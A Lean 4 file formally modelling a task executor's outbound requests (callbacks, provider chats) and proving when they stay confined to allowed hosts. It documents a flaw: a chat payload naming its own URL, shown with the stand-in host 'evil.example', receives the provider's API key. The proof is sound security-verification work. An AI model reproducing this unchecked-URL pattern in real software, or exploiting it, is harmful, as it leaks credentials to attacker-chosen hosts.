import Mathlib.Data.Bool.AllAny
import ContextLattice.Task.Transactions
import ContextLattice.Write.Request

/-!
# Executing a task

A callback goes to the URL of the payload, if its host is allowed. A chat goes to the configured
provider, **unless the payload names another URL**, which is not checked, and it carries the
provider's key.
-/

namespace ContextLattice

open Foundation

structure ExecutorConfig where
  taskProviderChatEnabled : Bool
  taskProviderChatUrl : String
  taskProviderChatModel : String
  taskProviderChatApiKey : String
  lettaAgentModel : String
  messagingDefaultProject : String

structure Casts where
  int : Json → Option ℤ
  float : Json → Option Json

structure MemorySearch where
  query : String
  limit : ℤ
  project : Option String
  topicPath : Option String
  fetchContent : Bool
  retrievalMode : Option String
  sources : Option (List Json)
  sourceWeights : Option (List (String × Json))
  rerankWithLearning : Bool
  includeRetrievalDebug : Bool
  includeGrounding : Bool
  userId : Option String
  includePreferences : Bool
  agentId : Option String
  autoEscalate : Option Bool
  queryExpansion : Option Bool

structure MessagingCall where
  text : String
  requirePrefix : Bool
  channel : String
  sourceId : String
  defaultProject : String
  topicRoot : String
  projectOverride : Option String
  topicOverride : Option String
  userId : Option String

structure OutboundRequest where
  method : String
  url : String
  body : Option Json
  headers : List (String × String)
  bearer : Option String

inductive TaskEffect where
  | writeMemory (req : MemoryWrite)
  | searchMemory (req : MemorySearch)
  | messagingCommand (call : MessagingCall)
  | request (req : OutboundRequest)

inductive ExecutorError where
  | orchestrator (message : String)
  | http (error : HttpError)
  | cast

variable (py : Python) (cfg : TaskConfig) (exec : ExecutorConfig) (casts : Casts)

def firstText (vs : List (Option Json)) : String :=
  strip (py.str ((vs.foldr Json.orElse none).getD (.str "")))

def orNone (text : String) : Option String := if text = "" then none else some text

def boolField (p : Payload) (k : String) (default : Bool) : Bool :=
  ((p.get? k).map Json.truthy).getD default

def boolOrNone (p : Payload) (k : String) : Option Bool :=
  match p.get? k with
  | some (.bool b) => some b
  | _ => none

def column (value : Option String) : Option Json := value.map .str

/-! ### The actions inside -/

def memoryWriteOf (task : TaskRow) (p : Payload) : MemoryWrite where
  projectName := firstText py
    [p.get? "projectName", p.get? "project", column task.project]
  fileName := firstText py [p.get? "fileName", p.get? "file"]
  content := py.str ((Json.orElse (p.get? "content") none).getD (.str ""))
  topicPath := orNone (firstText py [p.get? "topic_path"])

def memorySearchOf (task : TaskRow) (p : Payload) : Except ExecutorError MemorySearch :=
  match casts.int ((Json.orElse (p.get? "limit") none).getD (.int 10)) with
  | none => .error .cast
  | some limit => .ok
    { query := firstText py [p.get? "query"]
      limit := max 1 (min limit 50)
      project := orNone (firstText py [p.get? "project", column task.project])
      topicPath := orNone (firstText py [p.get? "topic_path"])
      fetchContent := boolField p "fetch_content" false
      retrievalMode := orNone (firstText py [p.get? "retrieval_mode"])
      sources := match p.get? "sources" with
        | some (.arr items) => some items
        | _ => none
      sourceWeights := match p.get? "source_weights" with
        | some (.obj members) => some members
        | _ => none
      rerankWithLearning := boolField p "rerank_with_learning" true
      includeRetrievalDebug := boolField p "include_retrieval_debug" false
      includeGrounding := boolField p "include_grounding" true
      userId := orNone (firstText py [p.get? "user_id"])
      includePreferences := boolField p "include_preferences" true
      agentId := orNone (firstText py [p.get? "agent_id", column task.agent])
      autoEscalate := boolOrNone p "auto_escalate"
      queryExpansion := boolOrNone p "query_expansion" }

def messagingCallOf (task : TaskRow) (worker : String) (p : Payload) :
    Except ExecutorError MessagingCall :=
  let channel := (orNone (strip (py.str ((Json.orElse (p.get? "channel") none).getD
    (.str "custom"))))).getD "custom"
  let text := firstText py [p.get? "text"]
  if text = "" then .error (.orchestrator "messaging_command text is required")
  else .ok
    { text := text
      requirePrefix := boolField p "require_prefix" false
      channel := channel
      sourceId := (orNone (strip (py.str ((Json.orElse (p.get? "source_id") none).getD
        (.str worker))))).getD worker
      defaultProject := py.str ((Json.orElse (p.get? "project")
        (Json.orElse (column task.project) none)).getD (.str exec.messagingDefaultProject))
      topicRoot := py.str ((Json.orElse (p.get? "topic_path")
        (Json.orElse (p.get? "topic_root") none)).getD (.str ("channels/" ++ channel)))
      projectOverride := orNone (firstText py [p.get? "project"])
      topicOverride := orNone (firstText py [p.get? "topic_path"])
      userId := orNone (firstText py [p.get? "user_id"]) }

/-! ### The actions that send a request -/

def callbackRequest (p : Payload) : Except ExecutorError OutboundRequest :=
  let callbackUrl := firstText py [p.get? "url"]
  match taskValidateCallbackUrl py cfg callbackUrl with
  | .error e => .error (.http e)
  | .ok () => .ok
    { method := py.upper (strip (py.str ((Json.orElse (p.get? "method") none).getD
        (.str "POST"))))
      url := callbackUrl
      body := p.get? "body"
      headers := match p.get? "headers" with
        | some (.obj members) => members.map fun m => (m.1, py.str m.2)
        | _ => []
      bearer := none }

def chatEndpoint (url : String) : String :=
  let cs := url.toList
  let trimmed := if cs.getLast? = some '/' then cs.dropLast else cs
  if "/v1".toList.isSuffixOf trimmed then String.ofList trimmed ++ "/chat/completions"
  else if "/chat/completions".toList.isSuffixOf trimmed then String.ofList trimmed
  else String.ofList trimmed ++ "/v1/chat/completions"

def providerEndpoint : String := chatEndpoint (strip exec.taskProviderChatUrl)

def chatUrl (p : Payload) : String :=
  strip (py.str ((Json.orElse (p.get? "url") none).getD (.str exec.taskProviderChatUrl)))

def chatModel (p : Payload) : String :=
  firstText py [p.get? "model", some (.str exec.taskProviderChatModel),
    some (.str exec.lettaAgentModel)]

def chatMessages (p : Payload) : Option (List Json) :=
  let prompt := firstText py [p.get? "prompt"]
  let fromPrompt := if prompt = "" then none
    else some [.obj [("role", .str "user"), ("content", .str prompt)]]
  match p.get? "messages" with
  | some (.arr items) => if items.isEmpty then fromPrompt else some items
  | _ => fromPrompt

def chatTemperature (p : Payload) : Option Json :=
  casts.float ((p.get? "temperature").getD (.float "0.2"))

def chatRequest (p : Payload) : Except ExecutorError OutboundRequest :=
  if exec.taskProviderChatEnabled = false then
    .error (.orchestrator "provider_chat action is disabled")
  else if chatUrl py exec p = "" then
    .error (.orchestrator "provider_chat endpoint is not configured")
  else if chatModel py exec p = "" then
    .error (.orchestrator "provider_chat model is not configured")
  else
    match chatMessages py p, chatTemperature casts p with
    | none, _ => .error (.orchestrator "provider_chat requires prompt or messages")
    | some _, none => .error .cast
    | some messages, some temperature => .ok
      { method := "POST"
        url := chatEndpoint (chatUrl py exec p)
        body := some (.obj [("model", .str (chatModel py exec p)), ("messages", .arr messages),
          ("temperature", temperature)])
        headers := [("content-type", "application/json")]
        bearer := orNone exec.taskProviderChatApiKey }

def executeTaskAction (task : TaskRow) (worker : String) : Except ExecutorError TaskEffect :=
  match task.payload with
  | none => .error (.orchestrator "task payload missing")
  | some p =>
    match normalizeTaskAction py (Json.orElse (p.get? "action") (column task.actionType)) with
    | none => .error (.orchestrator "task action missing")
    | some action =>
      if action ∉ cfg.taskAllowedActions then
        .error (.orchestrator ("task action '" ++ action ++ "' is not allowed"))
      else if action = "memory_write" then .ok (.writeMemory (memoryWriteOf py task p))
      else if action = "memory_search" then
        (memorySearchOf py casts task p).map .searchMemory
      else if action = "messaging_command" then
        (messagingCallOf py exec task worker p).map .messagingCommand
      else if action = "http_callback" then (callbackRequest py cfg p).map .request
      else if action = "provider_chat" then (chatRequest py exec casts p).map .request
      else .error (.orchestrator ("unsupported task action '" ++ action ++ "'"))

/-! ### Where requests go -/

def HostAllowed (url : String) : Prop :=
  cfg.taskCallbackAllowedHosts = [] ∨ ∃ scheme hostname, py.urlparse url = some (scheme, hostname) ∧
    py.lower (hostname.getD "") ∈ cfg.taskCallbackAllowedHosts

def OutboundRequest.Confined (req : OutboundRequest) : Prop :=
  (HostAllowed py cfg req.url ∨ req.url = providerEndpoint exec) ∧
    (req.bearer ≠ none → req.url = providerEndpoint exec)

def Confined (task : TaskRow) (worker : String) : Prop :=
  ∀ req, executeTaskAction py cfg exec casts task worker = .ok (.request req) →
    req.Confined py cfg exec

/-- A chat that will be sent names no other URL than the provider's or, if there is no key to lose,
one with an allowed host. -/
def ChatConfined (payload : Payload) : Prop :=
  settledAction py payload = some "provider_chat" → exec.taskProviderChatEnabled = true →
    chatUrl py exec payload ≠ "" → chatModel py exec payload ≠ "" →
    chatTemperature casts payload ≠ none →
      chatEndpoint (chatUrl py exec payload) = providerEndpoint exec ∨
        exec.taskProviderChatApiKey = "" ∧
          HostAllowed py cfg (chatEndpoint (chatUrl py exec payload))

variable {py : Python} {cfg : TaskConfig} {exec : ExecutorConfig} {casts : Casts} {p : Payload}
  {req : OutboundRequest}

theorem hostAllowed_of_validate {url : String} (h : taskValidateCallbackUrl py cfg url = .ok ()) :
    HostAllowed py cfg url := by
  unfold taskValidateCallbackUrl at h
  rcases hparse : py.urlparse url with _ | ⟨scheme, hostname⟩
  · simp [hparse] at h
  · simp only [hparse] at h
    split at h
    · cases h
    split at h
    · cases h
    split at h
    · cases h
    rename_i hallowed
    by_cases hempty : cfg.taskCallbackAllowedHosts = []
    · exact .inl hempty
    · refine .inr ⟨scheme, hostname, hparse, ?_⟩
      by_contra hmem
      exact hallowed ⟨hempty, hmem⟩

theorem confined_of_callbackRequest (h : callbackRequest py cfg p = .ok req) :
    req.Confined py cfg exec := by
  unfold callbackRequest at h
  dsimp only at h
  split at h
  · cases h
  · rename_i hvalid
    cases h
    exact ⟨.inl (hostAllowed_of_validate hvalid), fun hkey => absurd rfl hkey⟩

theorem chatRequest_eq_ok (hmessages : chatMessages py p ≠ none) :
    (∃ req, chatRequest py exec casts p = .ok req) ↔
      exec.taskProviderChatEnabled = true ∧ chatUrl py exec p ≠ "" ∧ chatModel py exec p ≠ "" ∧
        chatTemperature casts p ≠ none := by
  obtain ⟨messages, hmessages⟩ := Option.ne_none_iff_exists'.mp hmessages
  unfold chatRequest
  rw [hmessages]
  split
  · simp_all
  split
  · simp_all
  split
  · simp_all
  rcases htemperature : chatTemperature casts p with _ | temperature
  · simp
  · simp_all

theorem chatRequest_address (h : chatRequest py exec casts p = .ok req) :
    req.url = chatEndpoint (chatUrl py exec p) ∧
      req.bearer = orNone exec.taskProviderChatApiKey := by
  unfold chatRequest at h
  repeat' split at h
  · exact absurd h (by simp)
  · exact absurd h (by simp)
  · exact absurd h (by simp)
  · exact absurd h (by simp)
  · exact absurd h (by simp)
  · have hreq := (Except.ok.inj h).symm
    constructor <;> rw [hreq]

theorem confined_chat_iff (h : chatRequest py exec casts p = .ok req) :
    req.Confined py cfg exec ↔
      chatEndpoint (chatUrl py exec p) = providerEndpoint exec ∨
        exec.taskProviderChatApiKey = "" ∧
          HostAllowed py cfg (chatEndpoint (chatUrl py exec p)) := by
  obtain ⟨hurl, hbearer⟩ := chatRequest_address h
  rw [OutboundRequest.Confined, hurl, hbearer]
  by_cases hkey : exec.taskProviderChatApiKey = ""
  · simp [orNone, hkey, or_comm]
  · simp only [orNone, hkey, if_false, false_and, or_false, ne_eq, reduceCtorEq, not_false_eq_true,
      true_implies]
    exact ⟨And.right, fun heq => ⟨.inr heq, heq⟩⟩

/-! ### The payload of an accepted task -/

variable {payload normalized : Payload} {action : String}

theorem normalizeTaskAction_settled (hpy : py.LowersAscii)
    (h : settledAction py payload = some action) :
    normalizeTaskAction py (some (.str action)) = some action := by
  have hne : action ≠ "" := settledAction_ne_empty h
  -- the names behind the aliases are lower-case ASCII, and no alias themselves
  have halias : ∀ b ∈ taskActionAlias.map Prod.snd,
      py.stripLower b = b ∧ taskActionAlias.lookup b = none := by
    have hascii : ∀ b ∈ taskActionAlias.map Prod.snd,
        (b.toList.all fun c => decide (c.toNat < 128)) = true ∧
        String.ofList ((strip b).toList.map Char.toLower) = b ∧ strip b = b ∧
        taskActionAlias.lookup b = none := by decide
    intro b hb
    obtain ⟨hb128, hlower, hstrip, hlookup⟩ := hascii b hb
    rw [hstrip] at hlower
    have hlow := hpy b (List.all_iff_forall_prop.mp hb128)
    exact ⟨by rw [Python.stripLower, hstrip, hlow, hlower], hlookup⟩
  have hread : py.stripLower action = action ∧ taskActionAlias.lookup action = none := by
    rcases settledAction_eq_some h with ⟨raw, rfl, -, hlookup⟩ | hmem
    · exact ⟨by simp, hlookup⟩
    · exact halias action hmem
  simp [normalizeTaskAction, Python.str, hread, hne]

theorem get?_action_normalized (h : validateTaskPayloadContract py cfg payload = .ok normalized)
    (hsettled : settledAction py payload = some action) :
    normalized.get? "action" = some (.str action) := by
  obtain ⟨a, ha, -, hfields⟩ := validateTaskPayloadContract_eq_ok h
  rw [hsettled] at ha
  obtain rfl := Option.some.inj ha
  rw [get?_validateActionFields hfields (by decide), Dict.get?_set_of_ne (by decide),
    Dict.get?_set]

theorem chat_normalized (h : validateTaskPayloadContract py cfg payload = .ok normalized)
    (hsettled : settledAction py payload = some "provider_chat") :
    (∀ k, k ≠ "action" → k ≠ "action_type" → normalized.get? k = payload.get? k) ∧
      chatMessages py normalized ≠ none := by
  obtain ⟨a, ha, -, hfields⟩ := validateTaskPayloadContract_eq_ok h
  rw [hsettled] at ha
  obtain rfl := Option.some.inj ha
  obtain ⟨rfl, hgiven⟩ := validateActionFields_chat hfields
  refine ⟨fun k hk hk' => ?_, ?_⟩
  · rw [Dict.get?_set_of_ne hk', Dict.get?_set_of_ne hk]
  · rcases hgiven with hprompt | ⟨items, hitems, hne⟩
    · have hfirst : firstText py [Dict.get? (Dict.set (payload.set "action"
          (.str "provider_chat")) "action_type" (.str "provider_chat")) "prompt"] ≠ "" := hprompt
      simp only [chatMessages, hfirst, if_false]
      split
      · split <;> simp
      · simp
    · simp [chatMessages, hitems, hne]

variable {id : String} {s : TaskSystem}

theorem TaskTransaction.Change.contents {t : TaskTransaction} {r r' : TaskRow}
    (h : t.Change py cfg id s r r') : r'.payload = r.payload ∧ r'.actionType = r.actionType := by
  cases h with
  | kept | recovered | selected => exact ⟨rfl, rfl⟩
  | written hcall hid =>
    rename_i call p
    cases p.op with
    | approve | update | requeue | replay => exact ⟨rfl, rfl⟩

theorem payload_run {row r : TaskRow} {ts : List TaskTransaction}
    (hrow : s.db.find? id = some row)
    (hr : (run (transactionStep py cfg) s ts).db.find? id = some r) : r.payload = row.payload := by
  let Inv (s : TaskSystem) : Prop := ∃ q, s.db.find? id = some q ∧ q.payload = row.payload
  have hstep : ∀ s t, Inv s → Inv (transactionStep py cfg s t) := by
    rintro s t ⟨q, hq, hpayload⟩
    obtain ⟨q', hq', hchange⟩ := transactionStep_change py cfg s t hq
    exact ⟨q', hq', hchange.contents.1.trans hpayload⟩
  obtain ⟨q, hq, hpayload⟩ := run_invariant hstep ⟨row, hrow, rfl⟩ ts
  rw [hr] at hq
  obtain rfl := Option.some.inj hq
  exact hpayload

variable {task : TaskRow} {worker : String}

section

variable (hpy : py.LowersAscii) (h : validateTaskPayloadContract py cfg payload = .ok normalized)

include hpy h

theorem executeTaskAction_normalized (hsettled : settledAction py payload = some action)
    (htask : task.payload = some normalized)
    (hexec : executeTaskAction py cfg exec casts task worker = .ok (.request req)) :
    action = "http_callback" ∧ callbackRequest py cfg normalized = .ok req ∨
      action = "provider_chat" ∧ chatRequest py exec casts normalized = .ok req := by
  have hne : action ≠ "" := settledAction_ne_empty hsettled
  have haction : normalizeTaskAction py (Json.orElse (normalized.get? "action")
      (column task.actionType)) = some action := by
    rw [get?_action_normalized h hsettled, Json.orElse, if_pos (by simpa [Json.truthy] using hne)]
    exact normalizeTaskAction_settled hpy hsettled
  simp only [executeTaskAction, htask, haction] at hexec
  split at hexec
  · exact absurd hexec (by simp)
  split at hexec
  · exact absurd hexec (by simp)
  split at hexec
  · rcases hsearch : memorySearchOf py casts task normalized with e | search <;>
      simp [hsearch, Except.map] at hexec
  split at hexec
  · rcases hcall : messagingCallOf py exec task worker normalized with e | call <;>
      simp [hcall, Except.map] at hexec
  split at hexec
  · refine .inl ⟨‹_›, ?_⟩
    rcases hreq : callbackRequest py cfg normalized with e | req' <;>
      simp_all [Except.map]
  split at hexec
  · refine .inr ⟨‹_›, ?_⟩
    rcases hreq : chatRequest py exec casts normalized with e | req' <;>
      simp_all [Except.map]
  · exact absurd hexec (by simp)

theorem executeTaskAction_chat (hsettled : settledAction py payload = some "provider_chat")
    (htask : task.payload = some normalized)
    (hreq : chatRequest py exec casts normalized = .ok req) :
    executeTaskAction py cfg exec casts task worker = .ok (.request req) := by
  obtain ⟨a, ha, hallowed, -⟩ := validateTaskPayloadContract_eq_ok h
  rw [hsettled] at ha
  obtain rfl := Option.some.inj ha
  have haction : normalizeTaskAction py (Json.orElse (normalized.get? "action")
      (column task.actionType)) = some "provider_chat" := by
    rw [get?_action_normalized h hsettled, Json.orElse, if_pos (by simp [Json.truthy])]
    exact normalizeTaskAction_settled hpy hsettled
  simp [executeTaskAction, htask, haction, hallowed, hreq, Except.map]

end

theorem chatRequest_normalized (h : validateTaskPayloadContract py cfg payload = .ok normalized)
    (hsettled : settledAction py payload = some "provider_chat") :
    chatUrl py exec normalized = chatUrl py exec payload ∧
      chatModel py exec normalized = chatModel py exec payload ∧
      chatTemperature casts normalized = chatTemperature casts payload := by
  obtain ⟨hget, -⟩ := chat_normalized h hsettled
  refine ⟨?_, ?_, ?_⟩
  · rw [chatUrl, chatUrl, hget "url" (by decide) (by decide)]
  · rw [chatModel, chatModel, hget "model" (by decide) (by decide)]
  · rw [chatTemperature, chatTemperature, hget "temperature" (by decide) (by decide)]

/-- **Requests are confined, exactly** if the task is no chat that is sent to another URL. -/
theorem confined_iff (hpy : py.LowersAscii) {clk : Clock} {taskId worker : String}
    {task : TaskRequest} {db db' : TaskDb} {row r : TaskRow} {calls : Dict ℕ PendingCall}
    {ts : List TaskTransaction}
    (hcreate : createTaskRecord py cfg clk taskId task db = .ok (db', row))
    (hr : (run (transactionStep py cfg) ⟨db', calls⟩ ts).db.find? row.id = some r) :
    Confined py cfg exec casts r worker ↔
      ∀ payload ∈ task.payload, ChatConfined py cfg exec casts payload := by
  have hpayload : r.payload = row.payload := payload_run (find?_of_createTaskRecord hcreate) hr
  have hrow := (createTaskRecord_eq_ok hcreate).1
  rcases hgiven : task.payload with _ | payload
  · -- a task without payload is refused by the executor
    have hnone : row.payload = none := by
      simp only [taskRowOf, hgiven, bind, Except.bind] at hrow
      split at hrow
      · exact absurd hrow (by simp)
      · exact congrArg TaskRow.payload (Except.ok.inj hrow).symm
    rw [hnone] at hpayload
    simp [Confined, executeTaskAction, hpayload]
  · obtain ⟨normalized, due, hnormalized, hnew⟩ := taskRowOf_eq_ok hgiven hrow
    have htask : r.payload = some normalized := by rw [hpayload, hnew]; rfl
    obtain ⟨action, hsettled, -, -⟩ := validateTaskPayloadContract_eq_ok hnormalized
    simp only [Option.mem_def, Option.some.injEq, forall_eq']
    constructor
    · intro hconfined hchat henabled hurl hmodel htemperature
      obtain ⟨heqUrl, heqModel, heqTemp⟩ := chatRequest_normalized hnormalized hchat
      rw [← heqUrl] at hurl
      rw [← heqModel] at hmodel
      rw [← heqTemp] at htemperature
      have hmessages := (chat_normalized hnormalized hchat).2
      obtain ⟨req, hreq⟩ := (chatRequest_eq_ok hmessages).mpr ⟨henabled, hurl, hmodel, htemperature⟩
      have hsafe := hconfined req (executeTaskAction_chat hpy hnormalized hchat htask hreq)
      rw [← heqUrl]
      exact (confined_chat_iff hreq).mp hsafe
    · intro hchat req hexec
      rcases executeTaskAction_normalized hpy hnormalized hsettled htask hexec with
        ⟨-, hreq⟩ | ⟨rfl, hreq⟩
      · exact confined_of_callbackRequest hreq
      · obtain ⟨heqUrl, heqModel, heqTemp⟩ := chatRequest_normalized hnormalized hsettled
        have hmessages := (chat_normalized hnormalized hsettled).2
        obtain ⟨henabled, hurl, hmodel, htemperature⟩ :=
          (chatRequest_eq_ok hmessages).mp ⟨req, hreq⟩
        rw [heqUrl] at hurl
        rw [heqModel] at hmodel
        rw [heqTemp] at htemperature
        refine (confined_chat_iff hreq).mpr ?_
        rw [heqUrl]
        exact hchat hsettled henabled hurl hmodel htemperature

/-! ### A chat with a URL of its own -/

def plainUrlparse (url : String) : Option (String × Option String) :=
  let cs := url.toList
  let scheme := cs.takeWhile (· ≠ ':')
  let rest := cs.drop (scheme.length + 3)
  if (cs.drop scheme.length).take 3 = "://".toList then
    some (String.ofList scheme, orNone (String.ofList (rest.takeWhile (· ∉ [':', '/', '?', '#']))))
  else some ("", none)

def webPython : Python := { Python.ascii with urlparse := plainUrlparse }

def keyedProvider : ExecutorConfig where
  taskProviderChatEnabled := true
  taskProviderChatUrl := "https://llm.internal/v1"
  taskProviderChatModel := "m"
  taskProviderChatApiKey := "key-1"
  lettaAgentModel := ""
  messagingDefaultProject := "messaging"

def plainCasts : Casts where
  int
    | .int n => some n
    | _ => none
  float
    | .int n => some (.int n)
    | .float r => some (.float r)
    | _ => none

def chatTask (url : Option String) : TaskRequest where
  title := "ask"
  project := none
  agent := none
  priority := 0
  payload := some (setGiven (Dict.set (Dict.set .empty "action" (.str "provider_chat"))
    "prompt" (.str "hi")) "url" (url.map .str))
  runAfter := none
  maxAttempts := none

theorem confined_iff_provider :
    ∃ db' row, createTaskRecord webPython .default .noon "t1"
        (chatTask none) .empty = .ok (db', row) ∧
      Confined webPython .default keyedProvider plainCasts row "internal-worker-0" := by
  obtain ⟨db', row, hcreate⟩ : ∃ db' row, createTaskRecord webPython .default
      .noon "t1" (chatTask none) .empty = .ok (db', row) := ⟨_, _, rfl⟩
  refine ⟨db', row, hcreate, ?_⟩
  have hr :
      (run (transactionStep webPython .default) ⟨db', .empty⟩ []).db.find? row.id = some row :=
    find?_of_createTaskRecord hcreate
  refine (confined_iff (fun _ _ => rfl) hcreate hr).mpr ?_
  intro payload hpayload _ _ _ _ _
  obtain rfl := Option.some.inj (Option.mem_def.mp hpayload)
  exact .inl rfl

/-- The payload names a URL: the chat is sent there, with the provider's key. -/
theorem key_sent_elsewhere :
    ∃ db' row req, createTaskRecord webPython .default .noon "t1"
        (chatTask (some "https://evil.example")) .empty = .ok (db', row) ∧
      executeTaskAction webPython .default keyedProvider plainCasts row "internal-worker-0" =
        .ok (.request req) ∧
      req.url = "https://evil.example/v1/chat/completions" ∧ req.bearer = some "key-1" ∧
      ¬ req.Confined webPython .default keyedProvider := by
  refine ⟨_, _, _, rfl, rfl, rfl, rfl, fun h => ?_⟩
  exact absurd (h.2 (Option.some_ne_none _)) (by decide)

end ContextLattice
